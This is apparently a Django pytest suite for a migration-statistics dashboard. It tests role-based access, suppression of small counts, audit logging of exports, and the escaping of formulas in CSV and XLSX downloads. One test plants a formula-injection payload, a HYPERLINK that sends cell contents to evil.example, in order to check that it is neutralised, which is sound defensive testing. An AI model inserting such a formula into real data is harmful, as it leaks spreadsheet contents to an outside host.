"""The dashboard page and the table downloads: who may see them, and what the files contain."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.http import QueryDict
from django.urls import reverse

from mirps.audit.models import AuditEvent
from mirps.core.testing import arrival_input, person_input, register
from mirps.reference.models import Term
from mirps.stats.builders import TABLES
from mirps.stats.exports import safe_cell
from mirps.stats.selectors import StatsFilters

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def query(six) -> dict[str, str]:
    return six.filters.as_query()


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_sheet(response):
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    return wb, wb.worksheets[0]


def test_dashboard_renders_for_every_role_with_stats(client, world, six):
    for name, user in world.all_users().items():
        client.force_login(user)
        r = client.get(reverse("stats:dashboard"), query(six))
        assert r.status_code == 200, name
        assert b'id="chart-data"' in r.content and b'id="map"' in r.content


def test_dashboard_page_content_and_no_inline_script_or_style(client, world, six):
    client.force_login(world.partner)
    r = client.get(reverse("stats:dashboard"), query(six))
    html = r.content.decode()
    assert "<5" in html or "&lt;5" in html
    for name in TABLES:
        assert f"/stats/table/{name}.csv?" in html and f"/stats/table/{name}.xlsx?" in html
    assert ' style="' not in html
    # Every executable script is an external file carrying the nonce; the data block is JSON.
    assert html.count("<script") == html.count('nonce="') + 1
    assert "vendor/leaflet/leaflet.css" in html and "hn_departments.geojson" in html


def test_dashboard_default_period_and_invalid_filters(client, world):
    client.force_login(world.coord)
    assert client.get(reverse("stats:dashboard")).status_code == 200
    r = client.get(reverse("stats:dashboard"), {"month_from": "2025-06", "month_to": "2025-01"})
    assert r.status_code == 200 and r.context["form"].errors
    r = client.get(reverse("stats:dashboard"), {"point": "999999"})
    assert r.status_code == 200 and r.context["filters"].reception_point_id is None


def test_user_without_membership_gets_404(client, world):
    nobody = get_user_model().objects.create_user(username="nobody", password="x" * 20)
    client.force_login(nobody)
    assert client.get(reverse("stats:dashboard")).status_code == 404
    assert client.get(reverse("stats:table_export", kwargs={"name": "sex", "fmt": "csv"})).status_code == 404


def test_anonymous_is_sent_to_login(client, db):
    for url in (reverse("stats:dashboard"), reverse("stats:table_export", kwargs={"name": "sex", "fmt": "xlsx"})):
        r = client.get(url)
        assert r.status_code == 302 and reverse("accounts:login") in r["Location"]


def test_unknown_table_is_404(client, world):
    client.force_login(world.coord)
    assert client.get("/stats/table/person.csv").status_code == 404
    assert client.get("/stats/table/sex.json").status_code == 404


def test_csv_download_is_suppressed_and_audited(client, world, six):
    client.force_login(world.partner)
    r = client.get(reverse("stats:table_export", kwargs={"name": "country", "fmt": "csv"}), query(six))
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    assert "attachment" in r["Content-Disposition"]
    rows = csv_rows(r)
    assert rows[0][0] == "Código" or rows[0][0] == "Code"
    assert rows[-1][2:] == ["<5", "<5", "<5", "6"]
    for row in rows[1:]:
        assert not [v for v in row[2:] if v in {"1", "2", "3", "4"}]
    ev = AuditEvent.objects.get(action="export", object_type="stats_table")
    assert ev.actor == world.partner
    assert ev.detail == {"table": "country", "format": "csv", "filters": query(six)}


def test_xlsx_download_parses_is_suppressed_and_has_no_formulas(client, world, six):
    client.force_login(world.coord)
    r = client.get(reverse("stats:table_export", kwargs={"name": "sex", "fmt": "xlsx"}), query(six))
    assert r.status_code == 200
    wb, ws = xlsx_sheet(r)
    rows = [list(row) for row in ws.iter_rows(values_only=True)]
    assert [row[2] for row in rows[1:]] == ["<5", "<5", 6]
    assert len(wb.worksheets) == 2  # the table, and what it is
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"


def test_registrar_own_point_download_is_exact(client, world, six):
    from mirps.accounts.models import Site

    client.force_login(world.reg_sps)
    q = {**query(six), "point": Site.objects.get(code="camr-sps").pk}
    r = client.get(reverse("stats:table_export", kwargs={"name": "sex", "fmt": "xlsx"}), q)
    _wb, ws = xlsx_sheet(r)
    assert [row[2] for row in ws.iter_rows(min_row=2, values_only=True)] == [2, 2, 4]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_in_a_reference_label_is_neutralised(client, world, settings, fmt):
    settings.STATS_SMALL_CELL = 1
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    Term.objects.create(vocabulary="migration_reason", code="evil", label_es=evil, label_en=evil, sort=99)
    register(world.reg_sps, person=person_input(), arrival=arrival_input(reasons=["evil"]))
    client.force_login(world.coord)
    r = client.get(reverse("stats:table_export", kwargs={"name": "reason", "fmt": fmt}))
    if fmt == "csv":
        cells = [c for row in csv_rows(r) for c in row]
    else:
        wb, _ws = xlsx_sheet(r)
        cells = [c.value for s in wb.worksheets for row in s.iter_rows() for c in row]
        assert all(c.data_type != "f" for s in wb.worksheets for row in s.iter_rows() for c in row)
    assert "'" + evil in cells
    assert not [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1"
    assert safe_cell("  =1+1") == "'  =1+1"
    assert safe_cell("\ufeff@SUM(A1)") == "'\ufeff@SUM(A1)"
    assert safe_cell("\x00-2") == "'\x00-2"
    assert safe_cell("\tx") == "'\tx"
    assert safe_cell("+504 9999") == "'+504 9999"
    assert safe_cell("<5") == "<5"
    assert safe_cell("Cortés") == "Cortés"
    assert safe_cell(-3) == -3 and safe_cell(12.5) == 12.5 and safe_cell(None) == ""


def test_filter_form_completes_a_period_given_by_one_end(world):
    from mirps.stats.forms import FilterForm

    f = FilterForm(QueryDict("month_from=2025-03")).filters()
    assert (f.month_from, f.month_to) == (date(2025, 3, 1), date(2026, 2, 1))
    f = FilterForm(QueryDict("month_to=2025-03")).filters()
    assert (f.month_from, f.month_to) == (date(2024, 4, 1), date(2025, 3, 1))
    assert FilterForm(QueryDict("")).filters() == StatsFilters.default()
    bad = FilterForm(QueryDict("month_from=2025-13&month_to=2025-01"))
    assert bad.errors and bad.filters() == StatsFilters.default()
    too_long = FilterForm(QueryDict("month_from=2000-01&month_to=2025-01"))
    assert too_long.errors


def test_registrar_dashboard_defaults_to_own_reception_point_with_exact_counts(client, world):
    from mirps.core.testing import person_input, register

    register(world.reg_sps, person=person_input())
    client.force_login(world.reg_sps)
    r = client.get(reverse("stats:dashboard"))
    assert r.context["board"].exact is True
    assert r.context["point"].code == "camr-sps"
    r = client.get(reverse("stats:dashboard"), {"point": ""})
    assert r.context["board"].exact is False
